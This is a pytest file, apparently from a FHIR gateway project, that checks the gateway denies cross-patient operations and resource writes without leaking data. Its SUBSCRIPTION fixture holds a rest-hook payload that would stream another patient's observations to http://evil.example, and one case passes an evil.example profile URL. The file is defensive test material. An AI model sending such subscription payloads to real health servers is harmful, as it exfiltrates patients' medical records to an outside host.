"""Attack groups K and V: operations and infrastructure resources, against a store that gives everything to everybody.

Every case makes the five assertions: no marker of another patient anywhere, nothing upstream on a refusal, one audit
record, an OperationOutcome that tells nothing of the store, and a permitted twin that succeeds.
"""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from tests.attacks.cases import Case
from tests.attacks.test_groups_a_b_c import check_no_leak, check_outcome, play
from tests.support.gateway import RunningGateway, start_gateway, stop_gateway

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("attacks")]
SHIPPED = Path(__file__).parents[2] / "policies"
JSON = ("Content-Type", "application/fhir+json")
POLICY = """
policy: operations
version: 1
owner: tests
text: Operations.
status: enforce
rules:
  - rule: own-record
    effect: permit
    who: {context: patient}
    may: ["operation:Patient/$everything", "operation:Observation/$lastn", "operation:$docref", "operation:$validate"]
    resources: [Patient, Observation, DocumentReference]
    where: {compartment: {patient: "{token.patient}"}}
    conceal: true
    because: A person takes the own record along.
  - rule: own-notes
    effect: permit
    who: {context: patient}
    may: [create]
    resources: [Observation]
    where: {compartment: {patient: "{token.patient}"}}
    because: A person writes the own diary.
tests:
  - test: a stranger's record is not found
    as: {context: patient, patient: A}
    request: GET /Patient/B/$everything
    expect: {decision: deny, status: 404, upstream: none}
"""
EVERYTHING = "GET {base}/Patient/A/$everything"


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def gateway(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[RunningGateway]:
    folder = tmp_path_factory.mktemp("operations")
    policies = folder / "policies"
    policies.mkdir()
    for path in SHIPPED.glob("*.yaml"):
        (policies / path.name).write_text(path.read_text())
    (policies / "90-operations.yaml").write_text(POLICY)
    running = await start_gateway(folder, policies=policies)
    yield running
    await stop_gateway(running)


def post(id: str, target: str, body: Any = None, **more: Any) -> Case:
    content = b"" if body is None else json.dumps(body).encode()
    more = {"who": "pA-rw", "twin": EVERYTHING} | more
    return Case(id, target, (403,), method="POST", headers=(JSON,), body=content, **more)


def closed(id: str, target: str, status: tuple[int, ...] = (403,), **more: Any) -> Case:
    return Case(id, target, status, **{"twin": EVERYTHING, **more})


FOREIGN = {"resourceType": "Observation", "status": "final", "subject": {"reference": "Patient/B"}}
SUBSCRIPTION = {
    "resourceType": "Subscription",
    "status": "requested",
    "criteria": "Observation?subject=Patient/B",
    "channel": {"type": "rest-hook", "endpoint": "http://evil.example", "payload": "application/fhir+json"},
}
GROUP_K = (
    closed("K189a", "{base}/Patient/B/$everything", (404,), reason="not-found"),
    closed("K189b", "{base}/Patient/B/$everything", (404,), reason="not-found", method="POST", twin="POST {base}/Patient/A/$everything"),
    closed("K189c", "{base}/Patient/$everything", reason="interaction-closed"),
    closed("K189d", "{base}/Encounter/eb/$everything", reason="interaction-closed"),
    closed("K190a", "{base}/Patient/A/$everything?_type=Coverage,Group", reason="no-permit"),
    closed("K190b", "{base}/Patient/A/$everything?_elements=id", reason="unsupported-parameter"),
    post("K192a", "{base}/$graphql", {"query": '{ Patient(id:"B"){name} }'}, reason="interaction-closed"),
    closed("K192b", "{base}/Patient/A/$graphql?query=x", reason="interaction-closed"),
    post("K193a", "{base}/Observation/$validate", FOREIGN, reason="no-permit",
         twin="POST {base}/Observation/$validate"),
    post("K193b", "{base}/Observation/$validate?profile=http://evil.example/p", FOREIGN, reason="unsupported-parameter"),
    closed("K193c", "{base}/Observation/b1/$validate", reason="interaction-closed"),
    closed("K196a", "{base}/Observation/$lastn?patient=B", (200,), twin="GET {base}/Observation/$lastn?patient=A"),
    closed("K196b", "{base}/Observation/$lastn?x=1", (400,), reason="unknown-parameter"),
    closed("K198", "{base}/DocumentReference/$docref?patient=B", (200,),
           twin="GET {base}/DocumentReference/$docref?patient=A"),
    closed("K201a", "{base}/Group/g/$export", reason="interaction-closed"),
    closed("K201b", "{base}/Patient/$export", reason="interaction-closed"),
    closed("K201c", "{base}/$export?_type=Patient&_elements=id", reason="interaction-closed"),
    closed("K202a", "{base}/Patient/A/$everything/_history", (404,), reason="unknown-route"),
    closed("K202b", "{base}/Patient/$everything/A", (404,), reason="unknown-route"),
    closed("K202c", "{base}/$everything", reason="interaction-closed"),
    closed("K205a", "{base}/OperationDefinition/x"),
    closed("K205b", "{base}/Observation/$stats", reason="interaction-closed"),
    post("K205c", "{base}/Patient/B/$merge", reason="interaction-closed"),
    post("K205d", "{base}/Patient/A/$expunge", reason="interaction-closed"),
    closed("K113", "{base}/Observation/$count", reason="interaction-closed"),
)  # fmt: skip
GROUP_V = (
    post("V340", "{base}/Subscription", SUBSCRIPTION, who="dr1", reason="policy-denied"),
    closed("V341a", "{base}/Subscription", who="dr1", reason="no-permit"),
    closed("V341b", "{base}/Subscription/x", who="dr1", reason="no-permit"),
    Case("V341c", "{base}/Subscription/x", (403,), method="PUT", who="dr1", headers=(JSON,),
         body=json.dumps(SUBSCRIPTION | {"id": "x"}).encode(), twin=EVERYTHING),
    *(
        post(f"V339-{type_}", f"{{base}}/{type_}", {"resourceType": type_}, who="dr1")
        for type_ in ("SearchParameter", "CompartmentDefinition", "StructureDefinition", "OperationDefinition",
                      "CapabilityStatement", "AuditEvent")
    ),
)  # fmt: skip


@pytest.mark.parametrize("case", [*GROUP_K, *GROUP_V], ids=lambda case: case.id)
async def test_case(gateway: RunningGateway, case: Case) -> None:
    before = len(await gateway.audit())
    reply = await play(gateway, case)
    assert reply.status in case.status, reply.raw[:600]
    check_no_leak(reply)
    check_outcome(reply, gateway)
    if case.reason is not None:
        assert reply.reason == case.reason
    if reply.status == 200:
        assert not reply.json.get("entry")
    assert [str(request) for request in gateway.upstream.requests] == []
    access = [r for r in (await gateway.audit())[before:] if r.get("event") == "access"]
    assert len(access) == 1


TWINS = sorted({case.twin for case in (*GROUP_K, *GROUP_V) if case.twin is not None})


@pytest.mark.parametrize("twin", TWINS)
async def test_the_permitted_twin_succeeds(gateway: RunningGateway, twin: str) -> None:
    method, _, target = twin.partition(" ")
    body = json.dumps(FOREIGN | {"subject": {"reference": "Patient/A"}}).encode() if method == "POST" else b""
    headers = (JSON,) if body else ()
    who = "pA-rw" if body else "pA-r"
    reply = await play(gateway, Case("twin", target, (200,), who, method, headers, body))
    assert reply.status == 200, reply.raw[:600]
    assert gateway.upstream.requests
    check_no_leak(reply)


async def test_K190_everything_shows_the_own_record_and_nothing_of_its_neighbours(
    gateway: RunningGateway,
) -> None:
    reply = await play(gateway, Case("K190", "{base}/Patient/A/$everything", ()))
    shown = sorted(f"{e['resource']['resourceType']}/{e['resource']['id']}" for e in reply.json["entry"])
    assert shown == [
        "Observation/a-mh", "Observation/a-vitals", "Observation/a1", "Organization/h1", "Patient/A",
        "Practitioner/dr1", "Practitioner/dr2",
    ]  # fmt: skip
    assert "total" not in reply.json
    first, second = (str(request) for request in gateway.upstream.requests)
    assert first == "GET /fhir/Patient/A"
    assert second.startswith("GET /fhir/Patient/A/$everything?_type=AllergyIntolerance")
    assert "Coverage" not in second
    check_no_leak(reply)


async def test_K190_a_page_of_everything_is_sealed_and_decided_again(gateway: RunningGateway) -> None:
    gateway.upstream.reset()
    page = "{base}/Patient/A/$everything"
    upstream = gateway.upstream
    original = upstream._bundle

    def paged(kind: str, found: list[Any], self_url: str | None = None) -> Any:
        answer = original(kind, found, self_url)
        value = json.loads(answer.body)
        value["link"] = [{"relation": "next", "url": f"{upstream.base}/Patient/A/$everything?_getpages=1"}]
        answer.body = json.dumps(value).encode()
        return answer

    upstream._bundle = paged  # type: ignore[method-assign]
    try:
        reply = await play(gateway, Case("page", page, ()))
        (link,) = [link["url"] for link in reply.json["link"] if link["relation"] == "next"]
        target = link.removeprefix(gateway.origin)
        assert "_getpages" not in link
        second = await play(gateway, Case("next", target, ()))
        assert second.status == 200
        assert [str(r) for r in upstream.requests] == [
            "GET /fhir/Patient/A", "GET /fhir/Patient/A/$everything?_getpages=1",
        ]  # fmt: skip
        check_no_leak(second)
        stranger = await play(gateway, Case("stolen", target, (), who="dr1"))
        assert (stranger.status, upstream.requests) == (404, [])
    finally:
        del upstream._bundle  # type: ignore[method-assign]


async def test_K189_a_patient_whom_the_store_does_not_have_is_not_found_before_the_operation(
    gateway: RunningGateway,
) -> None:
    gateway.upstream.reset()
    token = await gateway.token("pA-r")
    del gateway.upstream.resources["Patient/A"]
    reply = await gateway.fhir("GET", "/Patient/A/$everything", token=token)
    assert (reply.status, reply.reason) == (404, "not-found")
    assert [str(request) for request in gateway.upstream.requests] == ["GET /fhir/Patient/A"]


async def test_K193_the_outcome_of_a_validation_tells_no_text_of_the_store(gateway: RunningGateway) -> None:
    body = json.dumps(FOREIGN | {"subject": {"reference": "Patient/A"}}).encode()
    case = Case("K193", "{base}/Observation/$validate", (), "pA-rw", "POST", (JSON,), body)
    reply = await play(gateway, case)
    assert reply.json == {
        "resourceType": "OperationOutcome",
        "issue": [{"severity": "warning", "code": "invariant", "expression": ["Observation.subject"]}],
    }
    check_no_leak(reply)


async def test_K196_lastn_reaches_the_store_narrowed_to_the_own_record(gateway: RunningGateway) -> None:
    reply = await play(gateway, Case("K196", "{base}/Observation/$lastn?code=x&max=2", ()))
    (asked,) = gateway.upstream.requests
    assert str(asked) == "GET /fhir/Observation/$lastn?code=x&subject=Patient%2FA&max=2"
    assert {e["resource"]["id"] for e in reply.json["entry"]} == {"a1", "a-vitals", "a-mh"}
    check_no_leak(reply)
